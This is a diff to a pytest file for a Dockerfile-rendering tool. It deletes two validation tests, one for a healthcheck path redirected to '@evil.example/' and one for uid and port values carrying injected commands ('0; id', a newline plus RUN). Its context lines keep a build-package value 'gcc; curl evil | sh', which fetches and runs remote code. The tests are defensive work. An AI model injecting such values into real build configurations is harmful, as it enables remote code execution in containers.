@@ -589,12 +589,6 @@ def test_quotes_in_the_healthcheck_path_stay_inside_the_url(
     assert [(k.arg, ast.literal_eval(k.value)) for k in call.keywords] == [("timeout", 4)]
 
 
-def test_healthcheck_path_must_stay_in_the_url_path(hello: config.Config) -> None:
-    cfg = replace(hello, healthcheck_path="@evil.example/")
-    with pytest.raises(ConfigError, match="healthcheck-path must start with '/'"):
-        dockerfile.render(make(cfg))
-
-
 def test_hostile_server_stage_values(hello: config.Config) -> None:
     p = make(hello)
     normal = dockerfile.render(p)
@@ -617,21 +611,6 @@ def test_hostile_server_stage_values(hello: config.Config) -> None:
     bad = replace(gunicorn, build_packages=("gcc; curl evil | sh",))
     with pytest.raises(ConfigError, match="not a Debian package"):
         dockerfile.render_compile(replace(p, servers=(bad,)))
-
-
-def test_ids_and_port_must_be_numbers(hello: config.Config) -> None:
-    p = make(hello)
-    # The plan's types say int; a str that slipped through must not be pasted.
-    text_uid: Any = "0; id"
-    text_port: Any = "8000\nRUN id"
-    for bad, message in [
-        (replace(p, uid=text_uid), "tool.containerize.uid: '0; id' is not a user or group id"),
-        (replace(p, gid=True), "tool.containerize.gid: True is not"),
-        (replace(p, gid=2**32), "tool.containerize.gid: 4294967296 is not"),
-        (replace(p, port=text_port), "tool.containerize.port: "),
-    ]:
-        with pytest.raises(ConfigError, match=message):
-            dockerfile.render(bad)
 
 
 def test_python_path_cannot_become_a_run_flag(hello: config.Config) -> None:
